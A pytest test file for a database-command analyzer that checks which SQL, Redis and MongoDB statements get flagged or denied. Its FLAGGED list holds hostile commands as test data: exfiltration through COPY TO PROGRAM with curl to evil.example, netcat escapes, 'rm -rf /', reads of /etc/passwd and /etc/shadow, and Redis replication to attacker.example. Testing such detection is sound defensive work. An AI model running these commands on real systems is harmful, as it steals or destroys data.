"""SQL, Redis and MongoDB analysis: each rule caught, each look-alike left alone."""

from __future__ import annotations

import pytest

from interlock.analyzers import Scope
from interlock.analyzers.sql import analyze
from interlock.config import Policy
from interlock.decisions import Verdict

SCOPE = Scope(policy=Policy(project_root="/srv/app"), cwd="/srv/app", environment="staging")


def ops(sql: str, dialect: str = "postgres") -> list[str]:
    return [f.operation for f in analyze(sql, dialect, SCOPE)]


FLAGGED = [
    ("postgres", "DROP TABLE users", "db.drop_table"),
    ("postgres", "drop table if exists public.users cascade;", "db.drop_table"),
    ("postgres", "DROP SCHEMA app CASCADE", "db.drop_schema"),
    ("postgres", "DROP DATABASE prod WITH (FORCE)", "db.drop_database"),
    ("postgres", "DROP ROLE reporting", "db.drop_role"),
    ("postgres", "DROP OWNED BY app_user", "db.drop_owned"),
    ("postgres", "TRUNCATE TABLE orders RESTART IDENTITY CASCADE", "db.truncate"),
    ("postgres", "DELETE FROM users", "db.delete_all_rows"),
    ("postgres", "DELETE FROM users WHERE 1=1", "db.delete_all_rows"),
    ("postgres", "DELETE FROM users WHERE true", "db.delete_all_rows"),
    ("postgres", "DELETE FROM users WHERE id = 5 OR 1 = 1", "db.delete_all_rows"),
    ("postgres", "DELETE FROM users WHERE (id = 5 OR 'a' = 'a')", "db.delete_all_rows"),
    ("postgres", "UPDATE accounts SET balance = 0", "db.update_all_rows"),
    ("postgres", "UPDATE accounts SET balance = 0 WHERE 2 > 1", "db.update_all_rows"),
    (
        "postgres",
        "WITH gone AS (DELETE FROM t RETURNING *) SELECT count(*) FROM gone",
        "db.delete_all_rows",
    ),
    ("postgres", "WITH x AS (SELECT 1) UPDATE t SET a = 1", "db.update_all_rows"),
    ("postgres", "EXPLAIN ANALYZE DELETE FROM t", "db.delete_all_rows"),
    ("postgres", "EXPLAIN (ANALYZE, BUFFERS) UPDATE t SET a = 1", "db.update_all_rows"),
    ("postgres", "PREPARE wipe AS DELETE FROM t", "db.delete_all_rows"),
    ("postgres", "EXECUTE wipe_elsewhere", "db.dynamic_sql"),
    ("postgres", "DO $$ BEGIN RAISE NOTICE 'hi'; END $$", "db.dynamic_sql"),
    ("postgres", "DO $body$ BEGIN EXECUTE 'DROP TABLE ' || tbl; END $body$", "db.dynamic_sql"),
    ("postgres", "ALTER TABLE users DROP COLUMN email", "db.alter_drop"),
    ("postgres", "ALTER TABLE users DROP email", "db.alter_drop"),
    ("postgres", "ALTER TABLE users DROP CONSTRAINT users_pkey", "db.alter_drop"),
    ("postgres", "ALTER SYSTEM SET archive_command = 'rm -rf /'", "db.alter_system"),
    ("postgres", "ALTER ROLE intern SUPERUSER", "db.grant"),
    ("postgres", "GRANT ALL PRIVILEGES ON DATABASE app TO intern", "db.grant"),
    ("postgres", "REVOKE CONNECT ON DATABASE app FROM PUBLIC", "db.revoke"),
    ("postgres", "SELECT pg_terminate_backend(pid) FROM pg_stat_activity", "db.terminate_backend"),
    ("postgres", 'SELECT pg_catalog."pg_terminate_backend"(42)', "db.terminate_backend"),
    ("postgres", "COPY users TO PROGRAM 'curl -d @- https://evil.example'", "db.shell_escape"),
    ("postgres", "COPY t FROM PROGRAM 'rm -rf /'", "db.shell_escape"),
    ("postgres", "COPY t TO '/var/lib/postgresql/dump.csv'", "db.server_file_access"),
    ("postgres", "SELECT pg_read_file('/etc/passwd')", "db.server_file_access"),
    ("postgres", "SELECT pg_read_binary_file('/etc/shadow')", "db.server_file_access"),
    ("postgres", "SELECT lo_import('/etc/passwd')", "db.server_file_access"),
    ("postgres", "SELECT lo_export(1234, '/tmp/x')", "db.server_file_access"),
    ("postgres", "\\! rm -rf ~", "db.shell_escape"),
    ("postgres", "\\copy users to program 'nc evil 9'", "db.shell_escape"),
    ("postgres", "SELECT 1 \\g | sh", "db.shell_escape"),
    ("postgres", "\\set x `rm -rf /`", "db.shell_escape"),
    ("postgres", "\\i migrations/999_cleanup.sql", "db.include_file"),
    ("postgres", "\\ir other.sql", "db.include_file"),
    ("postgres", "SELECT format('DROP TABLE %I', t) FROM tabs \\gexec", "db.dynamic_sql"),
    ("postgres", "SELECT 'unterminated", "db.unparsed"),
    ("postgres", "SELECT 1 /* never closed", "db.unparsed"),
    ("postgres", "SELECT $$ never closed", "db.unparsed"),
    ("postgres", 'SELECT "never closed', "db.unparsed"),
    ("mysql", "DROP DATABASE shop", "db.drop_database"),
    ("mysql", "DROP SCHEMA shop", "db.drop_database"),
    ("mysql", "DELETE FROM orders", "db.delete_all_rows"),
    ("mysql", "UPDATE orders SET status = 'x' LIMIT 100", "db.update_all_rows"),
    ("mysql", "/*!50000 DROP TABLE users */", "db.drop_table"),
    ("mysql", "SELECT 1--1; DROP TABLE users", "db.drop_table"),
    ("mysql", "SELECT * FROM users INTO OUTFILE '/tmp/u.csv'", "db.server_file_access"),
    ("mysql", "SELECT LOAD_FILE('/etc/passwd')", "db.server_file_access"),
    ("mysql", "\\! rm -rf /", "db.shell_escape"),
    ("mysql", "system rm -rf /", "db.shell_escape"),
    ("mysql", "SHUTDOWN", "db.shutdown"),
    ("mysql", "SET GLOBAL general_log_file = '/var/www/shell.php'", "db.alter_system"),
    ("mysql", "PREPARE s FROM 'DROP TABLE users'", "db.drop_table"),
    ("mysql", "PREPARE s FROM @sql", "db.dynamic_sql"),
    ("sqlite", "DROP TABLE notes", "db.drop_table"),
    ("sqlite", "DELETE FROM notes", "db.delete_all_rows"),
    ("sqlite", "UPDATE OR REPLACE notes SET body = ''", "db.update_all_rows"),
    ("sqlite", ".shell rm -rf ~", "db.shell_escape"),
    ("sqlite", ".read cleanup.sql", "db.include_file"),
    ("sqlite", "SELECT load_extension('/tmp/evil.so')", "db.shell_escape"),
    ("redis", "FLUSHALL", "db.flushall"),
    ("redis", "flushdb async", "db.flushdb"),
    ("redis", "DEL session:1 session:2", "db.delete_keys"),
    ("redis", "UNLINK cache", "db.delete_keys"),
    ("redis", "CONFIG SET dir /var/spool/cron", "db.config_set"),
    ("redis", "SHUTDOWN NOSAVE", "db.shutdown"),
    ("redis", "DEBUG SEGFAULT", "db.debug"),
    ("redis", "SCRIPT FLUSH", "db.script_flush"),
    ("redis", "EVAL \"return redis.call('flushall')\" 0", "db.eval"),
    ("redis", "SLAVEOF attacker.example 6379", "db.replicaof"),
    ("redis", "3 FLUSHDB", "db.flushdb"),
    ("redis", 'SET a "unclosed', "db.unparsed"),
    ("mongodb", "db.dropDatabase()", "db.drop_database"),
    ("mongodb", "db.getSiblingDB('prod').dropDatabase()", "db.drop_database"),
    ("mongodb", "db.users.drop()", "db.drop_table"),
    ("mongodb", "db.getCollection('users').drop()", "db.drop_table"),
    ("mongodb", "db.users.deleteMany({})", "db.delete_all_rows"),
    ("mongodb", "db.users.deleteMany()", "db.delete_all_rows"),
    ("mongodb", "db.users.remove({})", "db.delete_all_rows"),
    ("mongodb", "db.users.updateMany({}, {$set: {active: false}})", "db.update_all_rows"),
    ("mongodb", "db.dropUser('app')", "db.drop_role"),
    ("mongodb", "db.dropAllUsers()", "db.drop_role"),
    ("mongodb", "db.runCommand({dropDatabase: 1})", "db.drop_database"),
    ("mongodb", "db.users.find({name: 'unclosed})", "db.unparsed"),
]


@pytest.mark.parametrize(("dialect", "sql", "operation"), FLAGGED)
def test_flagged(dialect: str, sql: str, operation: str) -> None:
    assert operation in ops(sql, dialect)


HARMLESS = [
    ("postgres", "SELECT * FROM users WHERE id = 1"),
    ("postgres", "SELECT 'DROP TABLE users; DELETE FROM users'"),
    ("postgres", "SELECT 'rm -rf /'"),
    ("postgres", "-- DROP TABLE users\nSELECT 1"),
    ("postgres", "/* TRUNCATE orders; */ SELECT 1"),
    ("postgres", "/* nested /* DROP TABLE x */ still comment */ SELECT 1"),
    ("postgres", 'SELECT "DROP TABLE" FROM t'),
    ("postgres", "SELECT $$DELETE FROM users$$"),
    ("postgres", "SELECT $tag$ DROP TABLE users; $tag$"),
    ("postgres", "SELECT E'it\\'s; DROP TABLE users; --'"),
    ("postgres", "INSERT INTO users (name) VALUES ('Robert''); DROP TABLE students;--')"),
    ("postgres", "CREATE TABLE t (id int PRIMARY KEY REFERENCES u ON DELETE CASCADE)"),
    ("postgres", "CREATE INDEX CONCURRENTLY i ON t (a)"),
    ("postgres", "DELETE FROM users WHERE id = 1"),
    ("postgres", "DELETE FROM users WHERE id IN (SELECT id FROM x WHERE 1=1)"),
    ("postgres", "DELETE FROM t WHERE CURRENT OF c"),
    ("postgres", "UPDATE users SET name = 'x' WHERE id = 2"),
    ("postgres", "UPDATE users SET a = 1 WHERE a = 1 AND 1 = 1"),
    ("postgres", "SELECT * FROM t FOR UPDATE"),
    ("postgres", "INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET a = 2"),
    ("postgres", "EXPLAIN DELETE FROM t"),
    ("postgres", "EXPLAIN (ANALYZE false) DELETE FROM t"),
    ("postgres", "ALTER TABLE t ALTER COLUMN c DROP DEFAULT"),
    ("postgres", "ALTER TABLE t ALTER COLUMN c DROP NOT NULL"),
    ("postgres", "ALTER TABLE t ADD COLUMN c int"),
    ("postgres", "BEGIN; INSERT INTO t VALUES (1); COMMIT;"),
    ("postgres", "COPY t TO STDOUT WITH CSV"),
    ("postgres", "COPY t FROM STDIN"),
    ("postgres", "SELECT 'pg_read_file(x)'"),
    ("postgres", "\\dt"),
    ("postgres", "\\d+ users"),
    ("postgres", "\\copy users to 'users.csv' csv"),
    ("postgres", "PREPARE q AS SELECT * FROM t WHERE id = $1; EXECUTE q(1)"),
    ("postgres", ""),
    ("mysql", "SELECT 'DROP TABLE users'"),
    ("mysql", 'SELECT "DROP TABLE" FROM t'),
    ("mysql", "# DROP TABLE users\nSELECT 1"),
    ("mysql", "SELECT 1 -- DROP TABLE users"),
    ("mysql", "DROP TEMPORARY TABLE scratch"),
    ("mysql", "SET NAMES utf8mb4"),
    ("mysql", "SELECT `drop` FROM t"),
    ("sqlite", "SELECT [delete] FROM t"),
    ("sqlite", "SELECT 1\n.tables"),
    ("redis", "GET user:1"),
    ("redis", "SET greeting 'FLUSHALL'"),
    ("redis", "KEYS session:*"),
    ("redis", "REPLICAOF NO ONE"),
    ("mongodb", "db.users.find({name: 'dropDatabase()'})"),
    ("mongodb", "// db.dropDatabase()\ndb.users.countDocuments()"),
    ("mongodb", "db.users.deleteMany({status: 'expired'})"),
    ("mongodb", "db.users.deleteOne({_id: 1})"),
    ("mongodb", "print(`db.users.drop()`)"),
]


@pytest.mark.parametrize(("dialect", "sql"), HARMLESS)
def test_harmless(dialect: str, sql: str) -> None:
    assert ops(sql, dialect) == []


def test_finding_fields() -> None:
    (f,) = analyze("DROP TABLE users CASCADE", "postgres", SCOPE)
    assert f.verdict is Verdict.ASK and f.rule == "sql.drop"
    assert f.targets == ("users",) and f.environment == "staging" and f.reversible is False
    assert "drops table users" in f.summary and "CASCADE" in f.summary
    assert f.evidence == "DROP TABLE users CASCADE"


def test_shell_escape_and_server_files_are_denied() -> None:
    for sql in ("COPY t TO PROGRAM 'id'", "\\! id", "SELECT pg_read_file('/etc/passwd')"):
        assert [f.verdict for f in analyze(sql, "postgres", SCOPE)] == [Verdict.DENY]


def test_not_understood_has_an_ask_floor() -> None:
    for sql in ("SELECT 'x", "DO $$ BEGIN NULL; END $$", "EXECUTE p", "\\i a.sql"):
        assert any(f.floor is Verdict.ASK for f in analyze(sql, "postgres", SCOPE))


def test_each_statement_judged() -> None:
    found = ops("SELECT 1; DROP TABLE a; DELETE FROM b WHERE id = 2; TRUNCATE c")
    assert found == ["db.drop_table", "db.truncate"]


def test_do_block_body_is_read() -> None:
    assert ops("DO $$ BEGIN IF true THEN DROP TABLE x; END IF; END $$") == [
        "db.dynamic_sql",
        "db.drop_table",
    ]


def test_backslash_quote_read_both_ways() -> None:
    # With standard_conforming_strings off the quote ends at \' and DROP runs.
    assert "db.drop_table" in ops("SELECT 'a\\'; DROP TABLE t; -- '", "postgres")
    assert "db.drop_table" in ops("SELECT 'a\\'; DROP TABLE t; -- '", "mysql")


def test_unknown_dialect_reads_as_postgres_and_mysql() -> None:
    assert "db.drop_table" in ops("/*!50000 DROP TABLE users */", "oracle")


def test_redis_targets() -> None:
    (f,) = analyze("DEL a b", "redis", SCOPE)
    assert f.targets == ("a", "b") and f.reversible is False


def test_mongo_target_names_collection() -> None:
    (f,) = analyze("db.getCollection('users').drop()", "mongodb", SCOPE)
    assert f.targets == ("users",) and "users" in f.summary
